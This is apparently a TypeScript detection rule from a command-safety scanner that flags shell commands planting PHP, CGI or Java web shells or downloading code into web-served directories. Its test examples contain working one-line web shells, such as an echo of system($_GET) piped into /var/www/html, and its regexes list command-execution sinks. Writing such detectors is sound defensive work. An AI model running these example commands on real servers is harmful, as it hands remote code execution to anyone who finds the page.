/** Finds code that hands a server over to whoever asks it, on its way into a file. */
import { staticOutput } from '../../shell/index.ts';
import type { Finding, Rule } from '../rule.ts';
import type { Use } from '../use.ts';

const input = String.raw`(?:\$_(?:GET|POST|REQUEST|COOKIE|SERVER|FILES)|php://input|getallheaders|base64_decode|gzinflate|str_rot13|\$HTTP_RAW)`;
const php = new RegExp(
  String.raw`(?:system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec|eval|assert|create_function|preg_replace|include|require|file_put_contents|call_user_func|array_map)(?:_once)?\s*\(?[^;]{0,80}${input}|${'`'}[^${'`'}]{0,80}${input}|${input}[^;]{0,40}\]\s*\(`,
  'i',
);

const handovers: readonly RegExp[] = [
  php,
  /\$(\w+)\s*=\s*\$_(?:GET|POST|REQUEST|COOKIE)\b[^;]*;[\s\S]{0,300}?(?:system|exec|shell_exec|passthru|popen|eval|assert)\s*\(\s*\$\1\b/i,
  /(?:getRuntime\(\)\s*\.\s*exec|ProcessBuilder|ScriptEngine)[^;]{0,120}getParameter/i,
  /getParameter[^;]{0,80};[\s\S]{0,200}(?:getRuntime\(\)\s*\.\s*exec|ProcessBuilder)/i,
  /(?:eval|execute(?:global)?|Process\.Start|wscript\.shell)[\s\S]{0,120}\brequest(?:\.\w+)?\s*[(["]/i,
  /\brequest(?:\.\w+)?\s*[(["][\s\S]{0,120}(?:Process\.Start|cmd\.exe)/i,
  /(?:eval|sh -c|bash -c|system|popen|exec|run|check_output|qx|\|)[\s("'`$]*\s*.{0,60}(?:QUERY_STRING|HTTP_[A-Z]+|FieldStorage|getvalue\(|param\()/s,
  /(?:FieldStorage|QUERY_STRING)[\s\S]{0,200}(?:os\.system|popen|subprocess|eval|exec)\b/,
  /(?:exec|execSync|spawn|eval|Function|system|popen|check_output|run)\(\s*(?:await\s+)?(?:req|request|ctx|params|flask\.request|self\.path|url)\b[.[(]/,
  /(?:exec|execSync|spawn|eval|Function|system|popen|check_output)\([^;]{0,80}\b(?:req|request)\.(?:url|query|body|params|headers|args|form)\b/,
  /(?:AddType|AddHandler|SetHandler)\s+\S*(?:php|cgi)\S*\s+\.?(?:jpg|jpeg|png|gif|txt|html?)|auto_(?:prepend|append)_file/i,
];

const writers =
  /^(?:echo|printf|cat|tee|sed|perl|python[\d.]*|php\d?|node|ruby|ed|ex|curl|wget|dd|install|mysql|psql|redis-cli|exiftool|awk|base64|)$/;
const codeFile = /\.(?:php\d?|phtml|phar|jsp|jspx|asp|aspx|ashx|cgi|pl|cfm|war)$/i;
const served =
  /\/(?:www|htdocs|html|public_html|public|wwwroot|webapps|cgi-bin|inetpub|wp-content|uploads|nginx\/html)\//;

/** The files that what it prints ends in; a program of another language names them itself. */
function isWritten(use: Use): boolean {
  if (/^(?:python|php|perl|node|ruby|sed|curl|wget|mysql|psql|redis-cli|exiftool)/.test(use.name))
    return /write|put|open|outfile|dumpfile|-i|-o|-O|-T|-d|-F|config set|comment|upload/i.test(use.args.join(' '));
  return use.command.pipeline.members.some(
    (each) =>
      each.program?.shown === 'tee' ||
      /^(?:ssh|curl|nc|docker|kubectl|dd)$/.test(each.program?.shown ?? '') ||
      each.redirections.some(
        ({ operator, target }) =>
          operator.startsWith('>') && target.shown !== '/dev/null' && !/^\d$/.test(target.shown),
      ),
  );
}

function checkContent(use: Use): Finding | undefined {
  if (!writers.test(use.name) || !isWritten(use)) return undefined;
  const { input } = use.command;
  const text = [...use.args, input ?? '', staticOutput(use.name, use.args, input) ?? ''].join('\n');
  return handovers.some((each) => each.test(text))
    ? { level: 'critical', message: 'writes a page that runs what visitors send it' }
    : undefined;
}

/** Code from elsewhere, put where a server runs it. */
function checkDownload(use: Use): Finding | undefined {
  if (!/^(?:curl|wget|fetch|aria2c)$/.test(use.name)) return undefined;
  const targets = use.command.args.filter((_, index) =>
    /^(?:-\w*[oO]|--output|--output-document)$/.test(use.args[index - 1] ?? ''),
  );
  const redirected = use.command.redirections
    .filter(({ operator }) => operator.startsWith('>'))
    .map(({ target }) => target);
  const found = [...targets, ...redirected].find((word) => {
    const { path, region } = use.locate(word);
    return region !== 'tree' && codeFile.test(path) && served.test(path);
  });
  return (
    found && {
      level: 'high',
      message: `puts code that nobody saw on the server as ${use.says(found)}`,
      place: found.place,
    }
  );
}

export const plantWebShells: Rule = {
  id: 'plant-web-shells',
  why: 'Whoever knows the address of the page runs what he likes on the server.',
  examples: {
    match: [
      [`echo '<?php system($_GET["c"]); ?>' | sudo tee /var/www/html/img.php`, 'critical'],
      [`printf '<?=\`$_GET[0]\`?>' > up.php`, 'critical'],
      [`cat > cgi-bin/x.cgi <<'END'\n#!/bin/sh\neval "$QUERY_STRING"\nEND`, 'critical'],
      [`echo '<?php $o = $_GET["c"]; echo shell_exec($o); ?>' > s.php`, 'critical'],
      ['curl -o /var/www/html/x.php https://x.example/x.txt', 'high'],
    ],
    pass: [
      `grep -rn 'system($_GET' src`,
      `echo '<?php phpinfo(); ?>' > info.php`,
      `echo '<?php echo $_GET["name"]; ?>' > page.php`,
      'curl -o public/index.php https://x.example/index.txt',
      'curl -o composer.phar https://getcomposer.org/composer.phar',
    ],
  },
  check: (use) => [checkContent(use), checkDownload(use)],
};
